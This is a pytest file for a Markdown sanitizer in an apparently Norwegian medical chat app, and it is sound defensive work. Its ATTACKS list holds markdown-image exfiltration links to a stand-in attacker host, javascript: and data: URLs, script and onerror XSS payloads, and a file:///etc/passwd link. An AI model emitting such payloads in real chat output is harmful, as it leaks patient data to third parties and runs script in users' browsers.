"""Safe rendering of model output and passage text (ui/sanitize.py).

Each attack is rendered by a real CommonMark renderer (markdown-it-py) set up
as permissively as a chat could be: raw HTML on (Chainlit's
``unsafe_allow_html = true``) and no URL filter of its own. The rendered HTML
must hold no image, no media, no raw tag from the input, and only links whose
target starts with an allowed prefix. Before ui/sanitize.py existed the chat
showed the model's Markdown as written, so every attack below rendered.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from ui.sanitize import HTTP_LINK_PREFIXES, IMAGE_NOT_SHOWN, SafeStream, safe_markdown

LEAK = "https://angriper.example/leak?q=pasient"

# Tags markdown itself produces; anything else in the output came from raw HTML.
MARKDOWN_TAGS = {
    "p", "a", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
FETCHING_TAGS = {"img", "video", "audio", "source", "iframe", "object", "embed", "script", "link", "image", "svg"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)
        if tag == "a":
            self.links.append(dict(attrs).get("href") or "")


def render(markdown: str) -> _Tags:
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # no second line of defence: only ours counts
    parsed = _Tags()
    parsed.feed(md.render(markdown))
    return parsed


def assert_safe(markdown: str, prefixes=HTTP_LINK_PREFIXES) -> _Tags:
    parsed = render(markdown)
    assert not FETCHING_TAGS & set(parsed.tags), (markdown, parsed.tags)
    assert set(parsed.tags) <= MARKDOWN_TAGS, (markdown, parsed.tags)
    for href in parsed.links:
        assert href.lower().startswith(tuple(prefixes)) and not href.startswith("//"), (markdown, href)
    return parsed


ATTACKS = [
    f"Svar [1]. ![]({LEAK})",
    f'![Figur]({LEAK} "tittel")',
    f"![Figur][ref]\n\n[ref]: {LEAK}",
    f"![ref]\n\n[ref]: {LEAK}",
    f"![ref][]\n\n[ref]: <{LEAK}>",
    "![a](https://angriper.example/(x))",
    "![a](<https://angriper.example/a b>)",
    f"![a [b] c]({LEAK})",
    f"[![x]({LEAK})](https://www.helsedirektoratet.no/)",
    "![video](https://angriper.example/v.mp4)",
    f"> ![sitat]({LEAK})",
    f"- ![liste]({LEAK})",
    f'<img src="{LEAK}">',
    '<IMG SRC="x" onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">klikk</a>',
    f"<video src='{LEAK}'></video>",
    "<svg onload=alert(1)>",
    f"Tekst\n\n    ![kode]({LEAK})\n",
    "<!-- skjult --> tekst",
    "<?php echo 1; ?>",
    "<https://angriper.example/autolenke>",
    "<javascript:alert(1)>",
    "<mailto:kari@fjordbyen.no>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//angriper.example/a)",
    "[x](/\\angriper.example/a)",
    "[x](&#106;avascript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](ftp://angriper.example/)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n> [r]: javascript:alert(1)",
    "[x][r]\n\n- [r]: javascript:alert(1)",
    "[r]\n\n[r]:\n  data:text/html,hei",
    "[x](relative/path)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_render_without_images_raw_html_or_foreign_links(attack):
    assert_safe(safe_markdown(attack))


@pytest.mark.parametrize("attack", ATTACKS[:18])
def test_the_attacks_are_real_on_unsanitised_markdown(attack):
    """The same renderer does fetch or run them when nothing sanitises."""
    parsed = render(attack)
    foreign_links = [href for href in parsed.links if not href.startswith(HTTP_LINK_PREFIXES)]
    assert FETCHING_TAGS & set(parsed.tags) or set(parsed.tags) - MARKDOWN_TAGS or foreign_links


def test_an_image_becomes_its_alt_text_with_a_notice():
    assert safe_markdown(f"Se ![Algoritme for sepsis]({LEAK}).") == f"Se Algoritme for sepsis {IMAGE_NOT_SHOWN}."
    assert safe_markdown(f"![]({LEAK})") == IMAGE_NOT_SHOWN
    assert "angriper" not in safe_markdown(f"![x]({LEAK})")


def test_ordinary_answers_are_unchanged():
    text = (
        "> ℹ️ Spørsmålet inneholdt noe som ligner et fødselsnummer.\n\n"
        "Gi **adrenalin** 0,5 mg i.m. [1]. Ved CRP <5 mg/L og a < b er det *ikke* nødvendig [2].\n\n"
        "**Kilder**\n\n- [1] **Anafylaksi** · Behandling · s. 3\n- [2] `kode` · tabell\n\n"
        "| Dose | Alder |\n|---|---|\n| 0,3 mg | < 12 år |\n\n"
        "[Helsedirektoratet](https://www.helsedirektoratet.no/retningslinjer/anafylaksi) og "
        "[kilde](HTTPS://example.no/a_(b))"
    )
    assert safe_markdown(text) == text
    assert render(safe_markdown(text)).links == [
        "https://www.helsedirektoratet.no/retningslinjer/anafylaksi",
        "HTTPS://example.no/a_(b)",
    ]


def test_own_routes_are_allowed_only_when_named():
    route = "[PDF-kilde 1](/project/file/abc?session_id=1)"
    assert render(safe_markdown(route)).links == []
    allowed = safe_markdown(route, allowed_link_prefixes=(*HTTP_LINK_PREFIXES, "/project/file/"))
    assert render(allowed).links == ["/project/file/abc?session_id=1"]
    # A prefix of "/" never lets a protocol-relative URL through.
    assert render(safe_markdown("[x](//angriper.example/)", allowed_link_prefixes=("/",))).links == []


def test_a_link_outside_the_prefixes_shows_as_text():
    rendered = MarkdownIt("commonmark").render(safe_markdown("[klikk](javascript:alert(1))"))
    assert "<a" not in rendered and "klikk" in rendered


@pytest.mark.parametrize("attack", [f"Svar [1]. ![]({LEAK}) mer", "Før <img src=x onerror=alert(1)> etter", "[x](javascript:alert(1))"])
def test_a_streamed_answer_is_safe_at_every_token(attack):
    """Streaming shows each prefix of the answer; none may render an image, raw HTML or a bad link."""
    stream = SafeStream()
    shown = ""
    for char in attack:
        update = stream.feed(char)
        shown = update.text if update.replace else shown + update.text
        assert shown == stream.text
        assert_safe(shown)
    assert shown == safe_markdown(attack)


def test_streaming_appends_while_nothing_changes_behind():
    stream = SafeStream()
    updates = [stream.feed(token) for token in ["Gi ", "adrenalin ", "[1]."]]
    assert [u.replace for u in updates] == [False, False, False]
    assert "".join(u.text for u in updates) == "Gi adrenalin [1]."
